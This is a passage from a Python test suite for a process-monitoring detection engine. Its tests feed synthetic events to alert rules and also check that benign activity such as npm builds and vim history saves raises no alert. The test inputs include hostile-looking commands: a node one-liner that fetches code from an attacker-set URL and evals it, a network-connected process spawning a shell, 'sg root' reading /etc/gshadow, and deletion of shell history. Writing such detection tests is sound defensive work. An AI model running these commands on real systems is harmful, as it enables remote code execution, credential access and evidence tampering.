    node = ev.exec(500, "/usr/bin/node", "node", "-e", "loop", ppid=100)
    conn = ev.connect(500, "198.18.0.2", 8443, comm="node")
    got = fire(node, conn, ev.fork(500, 501, comm="node"),
               ev.exec(501, "/bin/sh", "/bin/sh", "-c", "id", ppid=500))
    assert got == ["shell_command_by_network_process"]
    npm = ev.exec(510, "/usr/bin/node", "node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "install",
                  ppid=100)
    assert fire(npm, ev.connect(510, "104.16.0.35", 443, comm="node"), ev.fork(510, 511, comm="node"),
                ev.exec(511, "/bin/sh", "/bin/sh", "-c", "node-gyp rebuild", ppid=510)) == []
    got = fire(ev.exec(520, "/usr/bin/node", "node", "-e",
                       "fetch(process.env.ATK+'/x.js').then(r=>r.text()).then(t=>eval(t))", ppid=100))
    assert got == ["interpreter_runs_downloaded_code"]


def test_sg_is_a_privilege_tool_that_reads_gshadow(fire: Any, ev: Any) -> None:
    got = fire(ev.exec(10, "/usr/bin/sg", "sg", "root", "-c", "id"),
               ev.open(10, "/etc/gshadow", comm="sg"))
    assert got == ["privilege_tool_exec"]


def test_editor_saving_its_own_history(fire: Any, ev: Any) -> None:
    vim = ev.exec(10, "/usr/bin/vim.basic", "vim", "-es", "README.md")
    assert fire(vim, ev.rename(10, "/home/code/.viminfz.tmp", "/home/code/.viminfo", comm="vim")) == []
    assert fire(ev.exec(11, "/usr/bin/rm", "rm", "-f", "/home/code/.viminfo"),
                ev.unlink(11, "/home/code/.viminfo", comm="rm")) == ["history_file_tampering"]

